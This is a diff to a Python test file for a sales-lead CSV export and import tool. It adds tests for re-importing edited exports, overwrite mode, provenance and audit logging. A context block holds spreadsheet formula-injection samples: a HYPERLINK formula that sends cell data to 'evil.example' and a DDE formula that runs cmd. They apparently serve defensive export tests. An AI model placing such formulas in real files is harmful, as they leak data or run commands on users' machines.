@@ -379,6 +379,115 @@ def test_export_then_import_changes_nothing_but_last_seen(seeded, tmp_path):
     assert not {"id", "first_seen", "last_seen"} & set(hal)
 
 
+def _edited_export(session, customer, path, edit) -> None:
+    """Export the customer's leads to path as CSV, with edit(row) applied to each row."""
+    out = io.StringIO()
+    export_leads(session, customer, "csv", out)
+    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
+    for row in rows:
+        edit(row)
+    with path.open("w", newline="") as file:
+        writer = csv.DictWriter(file, fieldnames=list(rows[0]))
+        writer.writeheader()
+        writer.writerows(rows)
+
+
+def _rename(row: dict[str, str]) -> None:
+    if row["email"] == "ann@a.example":
+        row.update(name="Anne Lee", company="A Corp", title="CTO", phone="+15550100")
+    if row["domain"] == "d.example":
+        row.update(name="Dee Ozil")
+
+
+def test_reimporting_an_edited_export_keeps_values_that_differ_and_says_so(seeded, tmp_path):
+    path = tmp_path / "edited.csv"
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(
+            session,
+            acme,
+            [{"name": "Ann Lee", "email": "ann@a.example", "company": "A Co", "title": "CEO"}],
+            source=SOURCE,
+        )
+        _edited_export(session, acme, path, _rename)
+        report = import_leads_csv(session, acme, path, actor="tester")
+        assert (report.imported, report.updated, report.filled) == (0, 1, 1)
+        assert report.differing == [
+            (2, "name", "Ann Lee", "Anne Lee"),
+            (2, "title", "CEO", "CTO"),
+            (2, "company", "A Co", "A Corp"),
+        ]
+        assert report.to_dict()["kept"][0] == {
+            "row": 2,
+            "field": "name",
+            "stored": "Ann Lee",
+            "file": "Anne Lee",
+        }
+        assert report.to_dict()["replaced"] == []
+        ann = get_lead(session, acme, "ann@a.example")
+        assert (ann.name, ann.company, ann.title, ann.phone) == (
+            "Ann Lee",
+            "A Co",
+            "CEO",
+            "+15550100",
+        )
+
+        report = import_leads_csv(session, acme, path, actor="tester", overwrite=True)
+        assert (report.updated, report.filled, len(report.differing)) == (1, 0, 3)
+        assert report.to_dict()["kept"] == [] and len(report.to_dict()["replaced"]) == 3
+        ann = get_lead(session, acme, "ann@a.example")
+        assert (ann.name, ann.company, ann.title) == ("Anne Lee", "A Corp", "CTO")
+        assert ann.data["_provenance"]["name"] == "import"
+        assert ann.data["_provenance"]["email"] == "local"  # unchanged, still the finder's
+        entry = session.scalars(select(AuditLog).order_by(AuditLog.seq.desc())).first()
+        assert entry.action == "leads.import"
+        assert entry.details == {
+            "file": str(path),
+            "imported": 0,
+            "updated": 1,
+            "rejected": 0,
+            "overwrite": True,
+            "filled": 0,
+            "replaced": 3,
+        }
+
+
+def test_overwrite_changes_the_name_of_a_lead_without_email_by_its_export_id(seeded, tmp_path):
+    path = tmp_path / "edited.csv"
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(session, acme, [{"name": "Dee Oz", "domain": "d.example"}], source=SOURCE)
+        dee_id = find_leads(session, acme)[0].id
+        _edited_export(session, acme, path, _rename)
+        report = import_leads_csv(session, acme, path, overwrite=True)
+        assert (report.imported, report.updated, report.rejected) == (0, 1, [])
+        (dee,) = find_leads(session, acme)
+        assert (dee.id, dee.name, dee.dedupe_key) == (dee_id, "Dee Ozil", "d.example|dee ozil")
+
+
+def test_overwrite_never_turns_a_lead_into_another_stored_one(seeded, tmp_path):
+    path = tmp_path / "edited.csv"
+    with seeded.session() as session:
+        acme = resolve_customer(session, "acme")
+        upsert_leads(
+            session,
+            acme,
+            [{"name": "Ann", "email": "ann@a.example"}, {"name": "Bob", "email": "bob@b.example"}],
+            source=SOURCE,
+        )
+        bob = get_lead(session, acme, "bob@b.example")
+
+        def take_bobs_address(row: dict[str, str]) -> None:
+            if row["email"] == "ann@a.example":
+                row["email"] = "bob@b.example"
+
+        _edited_export(session, acme, path, take_bobs_address)
+        report = import_leads_csv(session, acme, path, overwrite=True)
+        assert report.rejected == [(2, f"another lead ({bob.id}) is stored as 'bob@b.example'")]
+        assert sorted(lead.name for lead in find_leads(session, acme)) == ["Ann", "Bob"]
+        assert get_lead(session, acme, "ann@a.example").name == "Ann"
+
+
 FORMULAS = {
     "link": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
     "dde": "=cmd|' /C calc'!A0",
@@ -461,7 +570,15 @@ def test_import_csv(seeded, tmp_path):
         assert jon.dedupe_key == "m.example|jon poe"
         entry = session.scalars(select(AuditLog).order_by(AuditLog.seq.desc())).first()
         assert entry.action == "leads.import"
-        assert entry.details == {"file": str(path), "imported": 2, "updated": 0, "rejected": 4}
+        assert entry.details == {
+            "file": str(path),
+            "imported": 2,
+            "updated": 0,
+            "rejected": 4,
+            "overwrite": False,
+            "filled": 0,
+            "kept": 0,
+        }
     with seeded.session() as session:
         again = import_leads_csv(session, resolve_customer(session, "acme"), path)
         assert (again.imported, again.updated) == (0, 2)
